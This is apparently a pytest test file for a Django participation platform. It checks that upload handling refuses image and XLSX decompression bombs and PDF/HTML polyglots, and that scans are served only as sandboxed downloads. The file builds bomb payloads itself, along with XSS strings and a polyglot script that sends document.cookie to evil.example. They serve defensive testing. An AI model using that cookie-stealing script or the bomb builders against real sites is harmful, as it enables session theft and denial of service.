"""Uploads that would cost a worker hundreds of megabytes are refused before they are decoded or
unpacked, or decoded at reduced size; documents are parsed whole and served only as downloads.

Every bomb is made here, in the test, the way an attacker would make it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image

from tests.ideas.conftest import german, ideas_module, workshop  # noqa: F401 - fixtures of the idea tests
from tests.ideas.helpers import idea_form_data, pdf_bytes
from tests.ideas.helpers import url as ideas_url
from tests.inventory.conftest import inventory_module, profile_phase, vocabularies  # noqa: F401
from zukunftswerkstatt.core.images import image_check, image_reencode, pillow_bomb_limit
from zukunftswerkstatt.core.uploads import scan_check, xlsx_check
from zukunftswerkstatt.ideas.models import Idea, OfflineContact

# -- bombs ----------------------------------------------------------------------------------------


def png_bytes(width: int, height: int, mode: str = "RGB") -> bytes:
    output = io.BytesIO()
    Image.new(mode, (width, height), "white").save(output, "PNG", optimize=True)
    return output.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A few hundred bytes whose header claims width × height pixels (the data is a stub)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def animated(fmt: str, frames: int = 200, size: tuple[int, int] = (64, 64)) -> bytes:
    images = [Image.new("RGB", size, (i % 256, 0, 0)) for i in range(frames)]
    output = io.BytesIO()
    images[0].save(output, fmt, save_all=True, append_images=images[1:], duration=10, loop=0)
    return output.getvalue()


def jpeg_bytes(width: int, height: int, *, progressive: bool = False) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (width, height), (90, 140, 200)).save(output, "JPEG", quality=70, progressive=progressive)
    return output.getvalue()


def webp_bytes(width: int, height: int) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (width, height), (10, 200, 10)).save(output, "WEBP", quality=50)
    return output.getvalue()


def xlsx_bomb(cell_bytes: int = 150 * 1024 * 1024) -> bytes:
    """An XLSX of about 150 KB whose one shared string unpacks to 150 MB."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/></Types>',
        )
        with archive.open("xl/sharedStrings.xml", "w") as member:
            member.write(
                b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
            )
            block = b"A" * (1024 * 1024)
            for _ in range(cell_bytes // len(block)):
                member.write(block)
            member.write(b"</t></si></sst>")
    return output.getvalue()


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# -- images ---------------------------------------------------------------------------------------


def test_pillow_refuses_what_no_upload_may_be(settings):
    assert pillow_bomb_limit(settings.UPLOAD_IMAGE_MAX_PIXELS) == Image.MAX_IMAGE_PIXELS
    assert 2 * Image.MAX_IMAGE_PIXELS == 8 * settings.UPLOAD_IMAGE_MAX_PIXELS


def test_the_149_kb_png_of_6200_pixels_is_refused_from_its_header(client_for, participant, ideas_module):  # noqa: F811
    bomb = png_bytes(6200, 6200)
    assert len(bomb) < 300_000
    with translation.override("de"):
        response = client_for(participant).post(
            ideas_url("create", ideas_module), idea_form_data(image=upload("karte.png", bomb, "image/png"))
        )
    assert response.status_code == 200
    assert "image" in response.context["form"].errors
    page = response.content.decode()
    assert "6200 × 6200" in page
    assert "Megapixel" in page
    assert "Trinkbrunnen im Stadtpark" in page  # what the person typed is kept
    assert not Idea.objects.exists()


def test_a_png_whose_header_claims_a_huge_size_is_refused_without_decoding():
    bomb = png_claiming(100_000, 100_000)
    with translation.override("en"), pytest.raises(ValidationError) as error:
        image_check(upload("x.png", bomb))
    assert error.value.code == "too_many_pixels"
    with pytest.raises(ValidationError):
        image_reencode(upload("x.png", bomb))


@pytest.mark.parametrize(("fmt", "code"), [("GIF", "format"), ("PNG", "animated"), ("WEBP", "animated")])
def test_pictures_with_many_frames_are_refused(fmt, code):
    bomb = animated(fmt)
    with pytest.raises(ValidationError) as error:
        image_check(upload(f"x.{fmt.lower()}", bomb))
    assert error.value.code == code


def test_an_animated_picture_is_refused_on_the_form_with_a_message(client_for, participant, ideas_module):  # noqa: F811
    with translation.override("de"):
        response = client_for(participant).post(
            ideas_url("create", ideas_module), idea_form_data(image=upload("a.gif", animated("GIF"), "image/gif"))
        )
    assert german("Please upload a JPEG, PNG or WebP image.") in response.content.decode()
    assert not Idea.objects.exists()


def test_a_webp_is_accepted_up_to_the_limit_and_refused_beyond(settings):
    clean = image_reencode(upload("a.webp", webp_bytes(2000, 1000)))
    assert Image.open(clean).size == (1600, 800)
    settings.UPLOAD_IMAGE_MAX_PIXELS = 1_000_000
    with pytest.raises(ValidationError) as error:
        image_check(upload("b.webp", webp_bytes(1200, 1000)))
    assert error.value.code == "too_many_pixels"


def test_a_jpeg_of_8000_by_6000_is_decoded_at_a_quarter_of_its_size():
    photo = jpeg_bytes(8000, 6000)
    header = image_check(upload("photo.jpg", photo))
    assert (header.width, header.height) == (8000, 6000)
    assert (header.decoded_width, header.decoded_height) == (2000, 1500)  # 12 MB instead of 192 MB
    clean = image_reencode(upload("photo.jpg", photo))
    assert Image.open(clean).size == (1600, 1200)


def test_a_phone_photo_of_12_megapixels_works_and_decodes_at_half_size(client_for, participant, ideas_module):  # noqa: F811
    photo = jpeg_bytes(4032, 3024)
    assert image_check(upload("IMG_0001.jpg", photo)).decoded_width == 2016
    response = client_for(participant).post(
        ideas_url("create", ideas_module),
        idea_form_data(image=upload("IMG_0001.jpg", photo, "image/jpeg"), image_alt="Bushaltestelle"),
    )
    assert response.status_code == 302, response.context["form"].errors
    stored = Idea.objects.get().image
    assert stored.name.endswith(".jpg")
    assert Image.open(stored).size == (1600, 1200)


def test_a_progressive_jpeg_counts_at_full_size():
    """libjpeg keeps every coefficient of a progressive JPEG, whatever the scale it decodes at."""
    with pytest.raises(ValidationError) as error:
        image_check(upload("p.jpg", jpeg_bytes(8000, 6000, progressive=True)))
    assert error.value.code == "too_many_pixels"
    assert image_check(upload("p.jpg", jpeg_bytes(2000, 1500, progressive=True))).decoded_width == 2000


def test_a_48_megapixel_phone_photo_works_at_an_eighth_of_its_memory():
    header = image_check(upload("IMG_48MP.jpg", jpeg_bytes(8000, 6000)))
    assert header.decoded_width * header.decoded_height * 16 == 8000 * 6000


def test_a_jpeg_beyond_eight_times_the_limit_is_refused_even_though_it_would_be_reduced(settings):
    settings.UPLOAD_IMAGE_MAX_PIXELS = 1_000_000
    # 1400×1400 would still be too many pixels: libjpeg decodes at an eighth instead of a half.
    assert image_check(upload("ok.jpg", jpeg_bytes(2800, 2800))).decoded_width == 700
    with pytest.raises(ValidationError) as error:
        image_check(upload("big.jpg", jpeg_bytes(3000, 3000)))
    assert error.value.code == "too_many_pixels"


def test_a_transparent_png_becomes_a_white_backed_jpeg():
    clean = image_reencode(upload("t.png", png_bytes(3300, 1000, mode="RGBA")))
    with Image.open(clean) as image:
        assert image.format == "JPEG"
        assert image.size == (1600, 485)


def test_text_pretending_to_be_an_image_is_refused():
    with pytest.raises(ValidationError) as error:
        image_check(upload("x.png", b"<html><script>alert(1)</script></html>"))
    assert error.value.code == "invalid"


# -- spreadsheets ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def xlsx_150mb_cell():
    return xlsx_bomb()


def test_the_xlsx_with_a_150_mb_cell_is_refused_before_openpyxl_opens_it(xlsx_150mb_cell):
    assert len(xlsx_150mb_cell) < 400_000
    with translation.override("en"), pytest.raises(ValidationError) as error:
        xlsx_check(xlsx_150mb_cell)
    assert error.value.code == "xlsx_too_large"
    assert "30 MB" in error.value.messages[0]


def test_a_part_that_packs_too_well_is_refused(settings):
    bomb = xlsx_bomb(cell_bytes=20 * 1024 * 1024)
    with pytest.raises(ValidationError) as error:
        xlsx_check(bomb)
    assert error.value.code == "xlsx_ratio"


def test_the_inventory_import_of_the_xlsx_bomb_changes_nothing_and_says_why(
    client_for,
    moderator,
    xlsx_150mb_cell,
    inventory_module,  # noqa: F811
):
    from zukunftswerkstatt.inventory.models import InventoryItem

    with translation.override("de"):
        response = client_for(moderator).post(
            reverse("inventory:import", args=[inventory_module.pk]),
            {"file": upload("bestand.xlsx", xlsx_150mb_cell)},
        )
    assert response.status_code == 422
    assert "30 MB" in response.content.decode()
    assert InventoryItem.objects.count() == 0


def test_the_demography_import_of_the_xlsx_bomb_changes_nothing_and_says_why(
    client_for, org_admin, organisation, xlsx_150mb_cell
):
    from zukunftswerkstatt.demography.models import ImportBatch

    with translation.override("de"):
        response = client_for(org_admin).post(
            reverse("demography:import", args=[organisation.slug]),
            {"file_format": "age_template", "source": "Meldeamt", "file": upload("v.xlsx", xlsx_150mb_cell)},
        )
    assert response.status_code == 400
    assert "30 MB" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_demography_csv_beyond_the_row_limit_is_refused_with_its_line(settings):
    from zukunftswerkstatt.demography.importers import ImportFailed, csv_rows

    settings.IMPORT_MAX_ROWS = 10
    with pytest.raises(ImportFailed) as failure:
        csv_rows("a;b\n" * 50)
    assert failure.value.problems[0].line == 11


def test_a_csv_field_longer_than_the_limit_is_refused(settings):
    from zukunftswerkstatt.demography.importers import ImportFailed, csv_rows
    from zukunftswerkstatt.inventory.importer import _FileError, read_table

    settings.IMPORT_MAX_CELL_CHARS = 1000
    with pytest.raises(ImportFailed):
        csv_rows("a;" + "x" * 2000 + "\n")
    with pytest.raises(ImportFailed):  # the csv module's own limit (128 KB) is a message too, not a 500
        csv_rows('"' + "x" * 200_000 + '"\n')
    with pytest.raises(_FileError):
        read_table(name="a.csv", data=b"Title;Text\nA;" + b"x" * 2000 + b"\n")


# -- scans of letters -----------------------------------------------------------------------------


def offline_form(**overrides) -> dict:
    return idea_form_data(
        channel="letter",
        received_on="2026-11-02",
        contact_name="Erna Schubert",
        contact="Lindenstraße 4",
        consent="Schriftlich zugestimmt",
        delete_on="2030-01-01",
        title="Der Bus fährt zu selten",
        text="Ich komme nicht mehr zum Arzt.",
        **overrides,
    )


POLYGLOT = b"%PDF-1.4\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("evil.html", POLYGLOT, "invalid_pdf"),
        ("evil.pdf", POLYGLOT + b"\n%%EOF\n", "invalid_pdf"),
        ("trailing.pdf", pdf_bytes() + b"<html><script>alert(1)</script>" + b" " * 2000, "invalid_pdf"),
        ("script.pdf", pdf_bytes(javascript=True), "active_content"),
        ("attached.pdf", pdf_bytes(attachment=True), "active_content"),
        ("brief.pdf", b"%PDF-1.7\n" + b"0" * 5000 + b"\n%%EOF\n", "invalid_pdf"),
        ("brief.html", b"<html>hello</html>", "format"),
    ],
)
def test_documents_that_are_not_plain_pdfs_are_refused(name, data, code):
    with pytest.raises(ValidationError) as error:
        scan_check(upload(name, data))
    assert error.value.code == code


def test_the_polyglot_is_refused_on_the_form_and_what_was_typed_is_kept(client_for, staff_a, ideas_module):  # noqa: F811
    with translation.override("de"):
        response = client_for(staff_a).post(
            ideas_url("offline", ideas_module), offline_form(scan=upload("evil.html", POLYGLOT, "text/html"))
        )
    assert response.status_code == 200
    assert german("This PDF file could not be read. Please scan or save it again.") in response.content.decode()
    assert "Ich komme nicht mehr zum Arzt." in response.content.decode()
    assert not OfflineContact.objects.exists()


def test_a_scan_is_stored_under_a_generated_name_and_served_only_as_a_download(client_for, staff_a, ideas_module):  # noqa: F811
    pdf = pdf_bytes(pages=2)
    response = client_for(staff_a).post(
        ideas_url("offline", ideas_module), offline_form(scan=upload('<b>Brief "Erna"<b>.html', pdf, "text/html"))
    )
    assert response.status_code == 302
    contact = OfflineContact.objects.get()
    stored = contact.scan.name.rsplit("/", 1)[-1]
    assert stored.endswith(".pdf")
    assert "Brief" not in stored
    assert len(stored) == 36  # uuid4 hex + ".pdf"
    assert contact.scan_name == '<b>Brief "Erna"<b>.html'
    page = client_for(staff_a).get(contact.idea.get_absolute_url()).content.decode()
    assert "&lt;b&gt;Brief &quot;Erna&quot;&lt;b&gt;.html" in page
    download = client_for(staff_a).get(ideas_url("scan", ideas_module, contact.idea))
    assert b"".join(download.streaming_content) == pdf
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["Content-Disposition"].endswith('.pdf"')
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]


def test_a_photographed_letter_goes_through_the_image_path(client_for, staff_a, ideas_module):  # noqa: F811
    response = client_for(staff_a).post(
        ideas_url("offline", ideas_module), offline_form(scan=upload("brief.png", png_bytes(2000, 2828), "image/png"))
    )
    assert response.status_code == 302
    contact = OfflineContact.objects.get()
    assert contact.scan.name.endswith(".jpg")
    with contact.scan.open("rb") as stored, Image.open(stored) as image:
        assert image.format == "JPEG"
        assert image.size == (1414, 2000)  # A4 at 170 dpi stays readable


def test_a_scan_stored_before_the_check_is_still_served_but_never_as_a_page(client_for, staff_a, ideas_module):  # noqa: F811
    response = client_for(staff_a).post(ideas_url("offline", ideas_module), offline_form())
    assert response.status_code == 302
    contact = OfflineContact.objects.get()
    contact.scan.save("evil.html", ContentFile(POLYGLOT), save=True)  # as the old check let it through
    download = client_for(staff_a).get(ideas_url("scan", ideas_module, contact.idea))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"].startswith("attachment")
    assert ".html" not in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]


def test_a_decode_waits_for_a_free_slot_and_then_says_the_server_is_busy(monkeypatch):
    from zukunftswerkstatt.core import images

    monkeypatch.setattr(images, "DECODE_WAIT_SECONDS", 0.05)
    slot = images._slots.semaphore()
    assert slot.acquire(timeout=1)  # another thread of this process is decoding
    try:
        with pytest.raises(ValidationError) as error:
            image_reencode(upload("a.png", png_bytes(100, 100)))
        assert error.value.code == "busy"
    finally:
        slot.release()
    assert image_reencode(upload("a.png", png_bytes(100, 100))).name.endswith(".jpg")
